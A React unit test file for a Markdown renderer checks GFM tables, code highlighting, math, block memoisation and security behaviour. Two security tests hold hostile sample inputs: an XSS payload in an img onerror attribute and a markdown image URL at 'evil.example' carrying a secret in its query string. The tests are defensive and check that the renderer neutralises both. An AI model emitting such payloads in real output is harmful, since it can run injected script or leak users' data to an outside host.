import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

describe('Markdown', () => {
  it('should render GFM tables, highlighted code and math', () => {
    const source = [
      '# Title',
      '',
      '| name | value |',
      '|------|-------|',
      '| pi   | 3.14  |',
      '',
      '```python',
      'def square(x):',
      '    return x * x',
      '```',
      '',
      'Inline $a^2$ and display:',
      '',
      '$$',
      'E = mc^2',
      '$$',
    ].join('\n');
    const { container, getByTestId } = render(<Markdown source={source} />);
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelectorAll('table td')).toHaveLength(2);
    const code = getByTestId('code-block');
    expect(code.textContent).toContain('python');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(container.querySelectorAll('.katex').length).toBeGreaterThanOrEqual(
      2,
    );
    expect(container.querySelector('.katex-display')).not.toBeNull();
  });

  it('should not re-render finished blocks when the answer grows', () => {
    const { container, rerender } = render(
      <Markdown source={'first paragraph\n\nsecond'} />,
    );
    const first = container.querySelector('[data-testid="markdown-block"] p');
    rerender(
      <Markdown source={'first paragraph\n\nsecond and more\n\nthird'} />,
    );
    const blocks = container.querySelectorAll('[data-testid="markdown-block"]');
    expect(blocks).toHaveLength(3);
    // Same DOM node: React kept the memoised block untouched.
    expect(blocks[0]?.querySelector('p')).toBe(first);
    expect(blocks[1]?.textContent).toBe('second and more');
  });

  it('should render raw HTML as text, not markup', () => {
    const { container } = render(
      <Markdown source={'<img src=x onerror="alert(1)"> hi'} />,
    );
    expect(container.querySelector('img')).toBeNull();
  });

  it('should not load remote images (tracking, data exfiltration) but show gateway artifacts through the proxy', () => {
    const { container } = render(
      <Markdown
        source={
          '![chart](http://gw:8000/v1/artifacts/artf_1) ![leak](https://evil.example/p.png?q=secret)'
        }
      />,
    );
    const images = [...container.querySelectorAll('img')];
    expect(images.map(image => image.getAttribute('src'))).toEqual([
      '/api/artifacts/artf_1',
    ]);
    const link = container.querySelector('a');
    expect(link?.getAttribute('href')).toBe(
      'https://evil.example/p.png?q=secret',
    );
    expect(link?.textContent).toBe('leak');
  });
});
